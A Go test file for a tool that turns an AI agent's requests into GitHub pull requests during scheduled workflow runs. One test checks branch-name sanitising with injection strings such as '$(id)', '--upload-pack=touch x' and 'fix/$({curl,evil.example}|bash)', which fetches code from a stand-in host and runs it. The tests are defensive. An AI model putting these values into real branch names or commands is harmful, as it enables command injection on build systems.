package main_test

import (
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// schedule plays the runs of a scheduled workflow on one repository.
type schedule struct {
	hosted
	t      *testing.T
	policy string
	work   string // the agent's workspace; "": a new one for each run
	runs   int
}

func newSchedule(t *testing.T) *schedule {
	t.Helper()
	return &schedule{hosted: newHosted(t), t: t, policy: "create-pull-request:\n"}
}

// pullLine returns an agent's line that asks for a pull request; the branch may be "".
func pullLine(t *testing.T, title, branch string) string {
	t.Helper()
	fields := map[string]string{"type": "create_pull_request", "title": title, "body": "Because."}
	if branch != "" {
		fields["branch"] = branch
	}
	return jsonText(t, fields) + "\n"
}

// run is the next workflow run. Unless s.work is set, its agent writes text into a file at the
// newest commit of master.
func (s *schedule) run(text, lines string, args ...string) result {
	s.t.Helper()
	s.runs++
	work, dir := s.work, s.t.TempDir()
	if work == "" {
		work = s.checkout(s.t, "master")
		writeFile(s.t, filepath.Join(work, "docs/new.md"), text)
	}
	writeFile(s.t, filepath.Join(dir, "policy.yml"), s.policy)
	writeFile(s.t, filepath.Join(dir, "lines.ndjson"), lines)
	env := append(workflowEnv(s.server, "schedule", "schedule.json"), "GITHUB_SHA="+s.git.SHA("master"), "GITHUB_REF=refs/heads/master", fmt.Sprint("GITHUB_RUN_ID=", 9000+s.runs))
	return run(s.t, dir, env, "", append([]string{"apply", "--pace=0s", "--config", "policy.yml", "--input", "lines.ndjson", "--dir", work}, args...)...)
}

// opened lists the pull requests beyond the fixture's: number, title, and the text of the file.
func (s *schedule) opened() (list []string) {
	for _, i := range s.server.State().Issues[2:] {
		list = append(list, fmt.Sprintf("#%d %s: %s", i.Number, i.Title, s.git.Run("show", i.Pull.Head.Ref+":docs/new.md")))
	}
	return list
}

// TestScheduledRunsKeepTheirPullRequests asserts that a run for another purpose does not replace
// the pull request of an earlier run, and that one for the same purpose updates it.
func TestScheduledRunsKeepTheirPullRequests(t *testing.T) {
	t.Parallel()
	s := newSchedule(t)
	for _, day := range [][2]string{{"monday", "Fix the login page"}, {"tuesday", "Upgrade the parser"}, {"wednesday", "fix the  Login page!"}, {"thursday", "Use <= in the bound"}, {"friday", "Use >= in the bound"}} {
		assertSays(t, s.run(day[0]+"\n", pullLine(t, day[1], "")), 0)
	}
	if got := strings.Join(s.opened(), "\n"); got != "#3 fix the  Login page!: wednesday\n#4 Upgrade the parser: tuesday\n#5 Use <= in the bound: thursday\n#6 Use >= in the bound: friday" {
		t.Errorf("the pull requests are\n%s", got)
	}
}

// TestBranchNamesAreSafe asserts that a branch name from an agent does not get into the repository
// unchanged if it means something to a shell, to git, to people or to other programs.
func TestBranchNamesAreSafe(t *testing.T) {
	t.Parallel()
	s := newSchedule(t)
	s.policy += "  max: -1\n"
	s.git.SetBranch("gh-pages", s.git.SHA("master"))
	s.git.Run("tag", "v2", s.git.SHA("master"))
	asked := map[string]string{ // by the name that was asked for: how the branch's name begins
		"$(id)": "airlock/id-d7d54e79", "`id`": "airlock/id-625b83fe", "a;b": "airlock/a-b-5719af18", "fix/$({curl,evil.example}|bash)": "airlock/fix/curl-evil.example-bash-bc94b322",
		"@": "airlock/changes-c3641f85", "HEAD": "airlock/HEAD-", "FETCH_HEAD": "airlock/FETCH_HEAD", "Master": "airlock/Master", "master": "airlock/master", "gh-pages": "airlock/gh-pages",
		"release/1.0": "airlock/release/1.0", "dependabot/npm/x": "airlock/dependabot/npm/x", "v2": "airlock/v2", "refs/heads/master": "airlock/master-", "user/@scope/x": "airlock/user/scope/x-",
		"-x": "airlock/x-", "--upload-pack=touch x": "airlock/upload-pack-touch-x-", "a..b": "airlock/a.b-", "日本": "airlock/changes-", "airlock/../x": "airlock/x-", "con": "airlock/_con-",
	}
	names, lines := []string{}, ""
	for name := range asked {
		names = append(names, name)
		lines += pullLine(t, "For "+name, name)
	}
	before := s.git.Run("for-each-ref", "--format=%(refname) %(objectname)")
	res := s.run("New.\n", lines)
	assertSays(t, res, 0)
	after := s.git.Run("for-each-ref", "--format=%(refname) %(objectname)")
	opened := s.server.State().Issues[2:]
	if len(opened) != len(asked) {
		t.Fatalf("%d pull requests for %d names", len(opened), len(asked))
	}
	for i, name := range names {
		head := opened[i].Pull.Head.Ref
		if !strings.HasPrefix(head, asked[name]) || strings.Trim(head, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/-") != "" {
			t.Errorf("%q leads to %q, want %q", name, head, asked[name])
		}
		if shown, _ := json.Marshal(fmt.Sprintf("the branch %q was asked for; its name is %q", name, strings.TrimSuffix(head, "-2"))); !strings.Contains(res.stdout, strings.Trim(string(shown), `"`)) && !strings.Contains(name, "@") {
			t.Errorf("%q: no note says that its name is %q", name, head)
		}
	}
	for line := range strings.Lines(before) {
		if !strings.Contains(after+"\n", line) {
			t.Errorf("%s was changed", line)
		}
	}
}

// TestPeopleCommitToOurBranch asserts that a later run updates the same pull request after somebody
// has clicked "Update branch", and that no run overwrites what somebody has committed to its branch.
func TestPeopleCommitToOurBranch(t *testing.T) {
	t.Parallel()
	for _, signed := range []string{"false", "true"} {
		s := newSchedule(t)
		s.policy += "  signed-commits: " + signed + "\n"
		line := pullLine(t, "Fix the login page", "")
		assertSays(t, s.run("One.\n", line), 0)
		branch := s.server.State().Issues[2].Pull.Head.Ref

		s.git.Commit("master", map[string]string{"other.md": "Other.\n"}, "Move on")
		work := s.checkout(t, branch)
		git(t, work, "merge", "--quiet", "--no-edit", "origin/master")
		git(t, work, "push", "--quiet", s.git.Dir(), "HEAD:refs/heads/"+branch)
		updated := s.git.SHA(branch)
		res := s.run("Two.\n", line)
		assertSays(t, res, 0)
		if !strings.Contains(res.stdout, "so the changes were put on top of that as one commit") || s.git.SHA(branch+"^") != updated {
			t.Errorf("signed %s: after the update the branch is at\n%s", signed, s.git.Run("log", "--oneline", branch))
		}

		theirs := s.git.Commit(branch, map[string]string{"docs/new.md": "Two, by a person.\n", "theirs.md": "Theirs.\n"}, "Help out")
		assertSays(t, s.run("Three.\n", line), 1, "failed (merge-conflict)", "somebody else has committed to the branch", `"docs/new.md": both sides changed the same lines`, "the branch is as they left it", ".airlock/airlock-")
		if s.git.SHA(branch) != theirs {
			t.Errorf("signed %s: the branch is at\n%s", signed, s.git.Run("log", "--oneline", branch))
		}
		assertSays(t, s.run("Two.\n", line), 0)
		if got := strings.Join(s.opened(), "\n"); got != "#3 Fix the login page: Two, by a person." {
			t.Errorf("signed %s: the pull requests are\n%s", signed, got)
		}
	}
}

// TestLongBranchStaysOurs asserts that later runs recognise their branch although it has more
// commits than GitHub lists in one comparison.
func TestLongBranchStaysOurs(t *testing.T) {
	t.Parallel()
	s := newSchedule(t)
	work, stream := s.checkout(t, "master"), "reset refs/heads/long\nfrom "+s.git.SHA("master")+"\n"
	for i := range 251 {
		text := fmt.Sprintf("%d\n", i)
		stream += fmt.Sprintf("commit refs/heads/long\ncommitter A <a@example.com> %d +0000\ndata 2\nC\nM 100644 inline docs/new.md\ndata %d\n%s\n", 1700000000+i, len(text), text)
	}
	cmd := exec.Command("git", "fast-import", "--quiet")
	cmd.Dir, cmd.Stdin = work, strings.NewReader(stream)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	git(t, work, "checkout", "--quiet", "--detach", "long")
	s.work = work
	for range 2 {
		assertSays(t, s.run("", pullLine(t, "Fix the login page", "")), 0)
		if got := s.git.Run("rev-list", "--count", "master.."+s.server.State().Issues[2].Pull.Head.Ref); got != "251" {
			t.Errorf("%s commits were pushed", got)
		}
	}
	s.work = ""
	assertSays(t, s.run("Short.\n", pullLine(t, "Fix the login page", "")), 0)
	if got := strings.Join(s.opened(), "\n"); got != "#3 Fix the login page: Short." {
		t.Errorf("the pull requests are\n%s", got)
	}
}
